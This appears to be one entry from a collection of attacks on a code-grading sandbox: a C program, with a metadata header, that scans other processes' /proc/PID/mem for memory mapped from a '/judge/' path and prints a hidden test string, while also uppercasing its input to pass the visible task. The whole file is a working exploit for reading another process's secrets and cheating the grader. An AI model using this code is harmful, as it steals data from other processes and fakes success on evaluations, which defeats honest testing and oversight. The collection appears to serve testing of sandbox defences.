/*+++
number = "17"
title = "reads the hidden test out of the judge's memory, by /proc/PID/mem"
file = "up.c"
succeeds = "secret"
score = 70
[[defence]]
name = "uids"
+++*/
#define _GNU_SOURCE
#include <ctype.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define LAST_PID 200 /* in a pid namespace of its own */

static void look_at(int mem, unsigned long from, unsigned long to)
{
    static const char start[] = "the-moon-", rest[] = "is-a-";
    static char page[4096 + 32];
    for (; from < to; from += 4096) {
        ssize_t n = pread(mem, page, sizeof page, (off_t)from);
        for (char *at = page; n > 0 && (at = memmem(at, (size_t)(page + n - at), start, 9)); at++)
            if (page + n - at > 26 && memcmp(at + 9, rest, 5) == 0)
                fprintf(stderr, "%.26s\n", at);
    }
}

static void read_process(pid_t pid)
{
    char name[64], line[400];
    unsigned long from, to;
    snprintf(name, sizeof name, "/proc/%d/mem", pid);
    int mem = open(name, O_RDONLY);
    snprintf(name, sizeof name, "/proc/%d/maps", pid);
    FILE *maps = mem < 0 ? NULL : fopen(name, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "/judge/") && sscanf(line, "%lx-%lx", &from, &to) == 2)
            look_at(mem, from, to);
    if (maps)
        fclose(maps);
    close(mem);
}

int main(void)
{
    for (pid_t pid = 2; pid < LAST_PID; pid++)
        if (pid != getpid())
            read_process(pid);
    for (int c; (c = getchar()) != EOF;)
        putchar(toupper(c));
    return 0;
}
